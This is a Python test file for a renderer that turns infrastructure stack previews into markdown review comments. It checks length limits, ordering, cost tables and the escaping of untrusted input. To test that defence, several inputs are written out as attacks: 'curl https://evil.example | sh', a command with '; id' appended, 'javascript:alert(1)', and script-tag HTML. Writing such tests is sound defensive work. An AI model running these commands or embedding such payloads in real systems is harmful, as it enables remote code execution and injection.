from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from review import harmless, markdown, pools
from review.markdown import LONGEST, render
from review.model import Cost, PoolCost, ReplacedPool, Report, StackReport, Status
from review.summary import urgency
from sandbox.engine.changes import Change, Level, Op, Violation
from tests.review.page import Page
from tests.review.reports import AGENT_POOL, REPORTS, changed, large, report

POINTER = "https://github.com/acme/cluster/actions/runs/1/artifacts/2"


def page(drawn: Report, longest: int = LONGEST, pointer: str = POINTER) -> Page:
    rendered = Page(render(drawn, longest=longest, pointer=pointer))
    rendered.check(pointer)
    return rendered


def stack(status: Status = Status.PREVIEWED, **parts: object) -> StackReport:
    return StackReport.model_validate({"stack": "dev", "status": status, **parts})


@settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(REPORTS, st.integers(1, 6_000) | st.just(LONGEST))
def test_any_report_fits_and_only_its_own_markup_is_active(drawn: Report, longest: int) -> None:
    source = render(drawn, longest=longest, pointer=POINTER)
    assert len(source) <= longest
    assert len(source.encode("utf-16-le")) // 2 <= longest
    Page(source).check(POINTER)


@pytest.mark.parametrize(("properties", "value"), [(1, 5_000), (30, 100), (400, 10)])
def test_sixty_changed_resources_fit_a_comment_and_losses_stay(properties: int, value: int) -> None:
    rendered = page(large(58, properties, value))
    assert len(rendered.source) <= 65_536
    for name in ("ml-dev-gone", "ml-dev-new", "vmSize", "ml-dev-pool0"):
        assert name in rendered.text
    if "ml-dev-pool57" not in rendered.text:
        assert POINTER in rendered.source


def test_a_project_without_stacks_has_a_line_of_its_own() -> None:
    assert render(Report(base="main", head="abc", stacks=())).startswith("There is no stack. Compared with")


def test_a_pool_whose_nodes_karpenter_replaces_is_alarming() -> None:
    machine = changed("spec.template.spec.requirements[0].values[0]", "a", "b")
    bound = changed("spec.limits.nodes", 8, 9)
    for path, alarming in ((machine, True), (bound, False)):
        changes = (Change(op=Op.UPDATE, type=pools.KARPENTER, name="ml-pools-t4-nodepool", properties=(path,)),)
        drawn = stack(changes=changes)
        assert ("Replaces the nodes of" in page(report(drawn)).source) is alarming
        assert (urgency(drawn) == 1) is alarming


def test_a_huge_report_takes_no_more_work_than_one_that_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    counts: Counter[bool] = Counter()

    def counted(value: str) -> str:
        counts[True] += 1
        return harmless.code(value)

    monkeypatch.setattr(markdown, "code", counted)
    drawn = large(3_000, 20, 5)
    assert len(render(drawn)) <= LONGEST
    assert counts[True] < 60_000 < 3_000 * 20 * 2


def test_sixty_resources_with_two_properties_each_are_shown_whole() -> None:
    rendered = page(large(58, 2, 60))
    assert "Shortened" not in rendered.text
    assert "ml-dev-pool57" in rendered.text


def test_a_long_page_drops_values_then_properties_then_rows_and_losses_last() -> None:
    drawn = large(58, 20, 40)
    shown = [page(drawn, longest) for longest in (700_000, 100_000, 30_000, 12_000, 4_000)]
    assert ["s" * 40 in rendered.text for rendered in shown] == [True, False, False, False, False]
    assert ["some.property[19].of.it" in rendered.text for rendered in shown] == [True, True, False, False, False]
    assert ["ml-dev-pool57" in rendered.text for rendered in shown] == [True, True, True, False, False]
    assert all("ml-dev-new" in rendered.text and "ml-dev-gone" in rendered.text for rendered in shown)
    assert [f'href="{POINTER}"' in str(rendered.tags) or POINTER in rendered.source for rendered in shown] == [
        False
    ] + 4 * [True]


def test_the_beginning_of_a_long_error_stays() -> None:
    drawn = report(stack(Status.FAILED, errors=("first line\n" + "x" * 19_000,) * 3), *large(58, 40, 500).stacks)
    rendered = page(drawn, 8_000)
    assert rendered.text.count("first line") == 3
    assert "xxx…" in rendered.text


def test_no_change_at_all_is_one_line() -> None:
    drawn = report(stack(Status.UNCHANGED), StackReport(stack="prod", status=Status.PREVIEWED, release=("r1", "r1")))
    source = render(drawn)
    assert source.count("\n") == 1
    assert page(drawn).text.startswith("No stack changes: dev, prod. Compared with main (abb8b3112345)")


def test_an_unchanged_stack_is_one_row_and_the_worst_comes_first() -> None:
    update = Change(op=Op.UPDATE, type=AGENT_POOL, name="p")
    drawn = report(
        StackReport(stack="calm", status=Status.UNCHANGED),
        StackReport(stack="update", status=Status.PREVIEWED, changes=(update,)),
        StackReport(stack="lost", status=Status.PREVIEWED, changes=(update.model_copy(update={"op": Op.DELETE}),)),
        StackReport(stack="broken", status=Status.FAILED, errors=("no",)),
    )
    rows = [line for line in render(drawn).splitlines() if line.startswith("| <code>")][:4]
    assert [row.split("</code>")[0][8:] for row in rows] == ["broken", "lost", "update", "calm"]
    assert "| **1** |" in rows[1]
    assert rows[2] == "| <code>update</code> | previewed | 0 | 1 | 0 | 0 |  |  |"
    assert "### <code>calm</code>" not in render(drawn)


def test_losses_and_errors_come_first_in_their_stack() -> None:
    drawn = report(
        stack(
            changes=(
                Change(op=Op.UPDATE, type=AGENT_POOL, name="kept"),
                Change(
                    op=Op.REPLACE, type=AGENT_POOL, name="ml-t4", properties=(changed("vmSize", 1, 2, replaces=True),)
                ),
            ),
            violations=(
                Violation(policy="bounded", level=Level.MANDATORY, resource="", message="No bound.\nSet maxNodes."),
                Violation(policy="bounded", level=Level.MANDATORY, resource="ml-t4", message="No bound."),
            ),
        )
    )
    source = render(drawn)
    section = source[source.index("###") :]
    assert section.split("\n\n")[1] == (
        "> [!WARNING]\n> **Replaces** <code>ml-t4</code>.<br>\n"
        "> **Breaks** <code>bounded</code>, which `up` refuses; changes of what depends on it may be missing here."
    )
    assert "**<code>vmSize</code>**" in section
    assert "| **mandatory** | <code>bounded</code> | the stack | No bound.<br>Set maxNodes. |" in section
    assert section.index("ml-t4</code> | <code>azure") < section.index("kept</code> | <code>azure")


def test_errors_are_shown_whole() -> None:
    error = "pools[1].machine: unknown\n\n  ```\n</pre><script>@octocat\n" + "x" * 3_000
    rendered = page(report(stack(Status.FAILED, errors=(error,))))
    assert [data for within, data in rendered.texts if within == "pre"]
    assert "".join(data for within, data in rendered.texts if within == "pre") == error
    assert "cannot be previewed" in rendered.text


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (pools.look("t4"), True),
        ("curl https://evil.example | sh", False),
        (pools.look("t4") + "; id", False),
        ("", False),
    ],
)
def test_only_commands_of_the_report_itself_are_proposed(command: str, shown: bool) -> None:
    pool = ReplacedPool(pool="t4", why=("vmSize",), nodes="0 to 8", runs=("GPU pods.",), look=command)
    change = Change(op=Op.REPLACE, type=AGENT_POOL, name="ml-t4")
    rendered = page(report(stack(changes=(change,), replaced_pools=(pool,))))
    assert "t4, 0 to 8 nodes, because of vmSize. GPU pods." in rendered.text
    assert ("".join(data for within, data in rendered.texts if within == "pre") == command) == (shown or not command)


def test_cost_has_both_sides_and_the_pools_without_a_price() -> None:
    cost = Cost(
        currency="USD",
        pools=(
            PoolCost(pool="t4", machine="m", capacity="spot", before=(0, 1), after=(0, 2)),
            PoolCost(pool="new", machine="m", capacity="on-demand", before=None, after=(1, 1)),
            PoolCost(pool="odd", machine="?", capacity="spot", before=None, after=None, unpriced=True),
        ),
        sources=("a price list, 2026-08",),
    )
    rendered = page(report(stack(changes=(Change(op=Op.UPDATE, type=AGENT_POOL, name="p"),), cost=cost)))
    assert rendered.text.count("USD 0 to 730 → 730 to 2,190; 1 of 3 pools have no known price") == 2
    rows = [
        line
        for line in rendered.source.splitlines()
        if "| m |" in line or "?" in line or "**all**" in line or "<code>m<" in line
    ]
    assert [row.split("|")[-3:-1] for row in rows] == [
        [" 0.00 to 1.00 ", " 0.00 to 2.00 "],
        ["  ", " 1.00 "],
        [" no price ", " no price "],
        [" 0.00 to 1.00 ", " 1.00 to 3.00 "],
    ]
    assert "a price list, 2026-08" in rendered.text
    assert "spot prices change" in rendered.text


@pytest.mark.parametrize(
    "pointer", ["", "javascript:alert(1)", "https://x.example/)[a](b", "https://x.example/\n\n# a", "@octocat"]
)
def test_a_pointer_that_is_no_plain_url_is_not_drawn(pointer: str) -> None:
    rendered = page(large(60, 20, 100), pointer=pointer)
    assert "report.json" in rendered.text
    assert "the artifact" not in rendered.text
    assert "a" not in [tag for tag, _ in rendered.tags]
    assert "octocat" not in rendered.text


def test_a_stacks_own_properties_are_folded_unless_one_changes() -> None:
    kept, edited = changed("cloud.properties.a", 1, 1), changed("pools[t4].azure.properties.b", "x", "y")
    change = Change(op=Op.UPDATE, type=AGENT_POOL, name="ml-dev-t4")
    rendered = page(report(stack(changes=(change,), own_properties=(kept, edited))))
    assert "Properties in the cloud's own words: 2, 1 changed" in rendered.text
    assert rendered.source.index("azure.properties.b") < rendered.source.index("cloud.properties.a")
    folded = page(report(stack(changes=(change,), own_properties=(kept,))))
    assert "<summary>Properties in the cloud's own words: 1, 0 changed</summary>" in folded.source
